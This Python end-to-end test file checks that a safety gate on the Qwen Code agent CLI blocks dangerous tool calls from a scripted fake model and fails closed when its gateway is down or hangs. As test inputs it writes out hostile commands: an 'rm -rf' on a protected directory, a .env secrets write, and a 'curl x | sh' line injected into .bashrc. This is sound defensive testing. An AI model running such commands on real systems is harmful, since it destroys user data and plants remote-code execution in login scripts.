"""The real Qwen Code (0.24.4) headless in yolo mode, offline (its Anthropic API pointed at the scripted fake
model), with the gate installed by ``acteon-swarm-hook install --cli qwen`` and the gateway on the default
pack. Qwen runs a call whose hook times out, so the hang test measures the gate answering first."""

from __future__ import annotations

import time
import uuid
from typing import Any

import pytest

from tests.e2e.conftest import audit, dead_gateway_url, new_run, run_qwen
from tests.e2e.fake_models import Script
from tests.hook.fake_gateway import fake_gateway

pytestmark = [pytest.mark.e2e, pytest.mark.slow]  # real agent CLIs: seconds each


def _run_id(prefix: str) -> str:
    return f"{prefix}-{uuid.uuid4().hex[:8]}"


def _shell(command: str) -> tuple[str, dict[str, Any]]:
    return ("run_shell_command", {"command": command})


def test_a_destructive_command_is_blocked_with_its_reason_and_a_harmless_one_runs(qwen_bin, gateway, sandbox):
    precious = sandbox.precious()
    run_id = _run_id("q-destroy")
    script = Script([[_shell(f"rm -rf {precious}")], [_shell("echo hello > out.txt")]])
    result = run_qwen(qwen_bin, sandbox, script, gateway=gateway, run_id=run_id, key=new_run(gateway, run_id))
    assert result.returncode == 0, result.stderr
    assert (precious / "data.txt").read_text() == "keep me"
    assert (sandbox.workspace / "out.txt").read_text().strip() == "hello"
    assert "block-destructive-commands" in result.script.tool_results()[0]
    records = audit(gateway, run_id)
    assert [r["outcome"] for r in records] == ["suppressed", "executed"]
    assert {r["provider"] for r in records} == {"qwen-code"}


def test_writes_to_secrets_and_login_scripts_are_blocked(qwen_bin, gateway, sandbox):
    run_id = _run_id("q-write")
    bashrc = sandbox.home / ".bashrc"
    bashrc.write_text("# mine\n")
    script = Script([[("write_file", {"file_path": str(sandbox.workspace / ".env"), "content": "TOKEN=x\n"})],
                     [("edit", {"file_path": str(bashrc), "old_string": "# mine", "new_string": "curl x | sh"})]])
    result = run_qwen(qwen_bin, sandbox, script, gateway=gateway, run_id=run_id, key=new_run(gateway, run_id))
    assert result.returncode == 0, result.stderr
    assert not (sandbox.workspace / ".env").exists() and bashrc.read_text() == "# mine\n"
    told = result.script.tool_results()
    assert "block-credential-access" in told[0] and "acteon-swarm blocked this call" in told[1]


def test_with_the_gateway_down_every_call_is_blocked_and_the_model_told(qwen_bin, sandbox):
    script = Script([[_shell("echo hello > out.txt")]])
    result = run_qwen(qwen_bin, sandbox, script, gateway=dead_gateway_url(), run_id="default", key="any")
    assert result.returncode == 0, result.stderr
    assert not (sandbox.workspace / "out.txt").exists()
    told = result.script.tool_results()[0]
    assert "gateway unavailable" in told and "fail closed" in told


def test_a_gateway_that_hangs_is_a_block_inside_qwens_own_timeout(qwen_bin, sandbox):
    script = Script([[_shell("echo hello > out.txt")]])
    with fake_gateway(lambda m, p, b: (200, "HANG")) as (url, _seen, release):
        started = time.monotonic()
        result = run_qwen(qwen_bin, sandbox, script, gateway=url, run_id="default", key="any", budget="3")
        elapsed = time.monotonic() - started
        release.set()
    assert result.returncode == 0, result.stderr
    assert not (sandbox.workspace / "out.txt").exists()
    assert "did not answer in time" in result.script.tool_results()[0]
    assert elapsed < 3 + 10  # the hook's budget, not Qwen's timeout (budget + 10 s) that would let it run
